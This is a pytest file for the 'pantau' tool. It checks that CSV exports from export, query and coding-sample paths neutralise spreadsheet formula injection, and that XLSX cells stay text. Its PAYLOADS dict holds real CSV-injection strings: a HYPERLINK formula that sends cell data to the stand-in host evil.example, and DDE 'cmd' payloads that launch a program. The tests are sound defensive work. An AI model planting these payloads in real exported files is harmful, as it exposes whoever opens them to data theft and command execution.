"""Issue 14 point 3: every CSV pantau writes neutralises cells that a spreadsheet would run as a
formula (OWASP: = + - @ tab CR), one test per character; XLSX keeps writing text cells."""

from __future__ import annotations

import csv
import io

import pytest

from pantau.store import connect
from tests.analysis.fixture import build
from tests.conftest import BEKASI_TOML

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    project = build(tmp_path_factory.mktemp("csvinj") / "proj", BEKASI_TOML)
    con = connect(project.store_path)
    for name, text in PAYLOADS.items():
        con.execute("INSERT INTO comments (platform, comment_id, post_id, author_handle, text) "
                    "VALUES ('tiktok', ?, 'p1', 'heri_tt', ?)", [f"inj-{name}", text])
    con.close()
    return project


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutral(cells: list[str], payload: str) -> None:
    matching = [c for c in cells if c.lstrip("'") == payload]
    assert matching, f"{payload!r} not written at all"
    assert all(c == "'" + payload for c in matching), matching


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_export_csv(project, tmp_path, char):
    from pantau.report.export import export_project

    export_project(project, tmp_path / "out", "csv")
    cells = _cells((tmp_path / "out" / "comments.csv").read_bytes().decode("utf-8"))
    _assert_neutral(cells, PAYLOADS[char])
    # numbers stay numbers
    metrics = (tmp_path / "out" / "post_metrics.csv").read_text("utf-8")
    assert all(not r["views"].startswith("'") for r in csv.DictReader(io.StringIO(metrics)))


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_query_csv(project, char):
    from typer.testing import CliRunner

    from pantau.cli import app

    result = CliRunner().invoke(app, ["query", "--project", str(project.root), "--format",
                                      "csv", "SELECT text FROM comments WHERE comment_id = "
                                      f"'inj-{char}'"])
    assert result.exit_code == 0, result.output
    _assert_neutral(_cells(result.stdout), PAYLOADS[char])


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_coding_sample_csv(tmp_path, char):
    from pantau.web.coding import write_export

    paths = write_export(tmp_path / "s.csv", ["sample_id", "text"],
                         [[1, PAYLOADS[char]], [2, -5]], [["variable"], ["=x"]])
    cells = _cells(paths[0].read_bytes().decode("utf-8-sig"))
    _assert_neutral(cells, PAYLOADS[char])
    assert "-5" in cells  # a number is not a formula
    _assert_neutral(_cells(paths[1].read_text("utf-8-sig")), "=x")


def test_xlsx_keeps_text_cells(project, tmp_path):
    import openpyxl

    from pantau.report.export import export_project

    export_project(project, tmp_path / "xl", "xlsx")
    book = openpyxl.load_workbook(tmp_path / "xl" / "pantau-export.xlsx", read_only=True)
    texts = {}
    for row in book["comments"].iter_rows(values_only=False):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(
                    ("=", "+", "-", "@")):
                texts[cell.value] = cell.data_type
    assert texts.get(PAYLOADS["="]) == "s"
    assert all(kind == "s" for kind in texts.values())
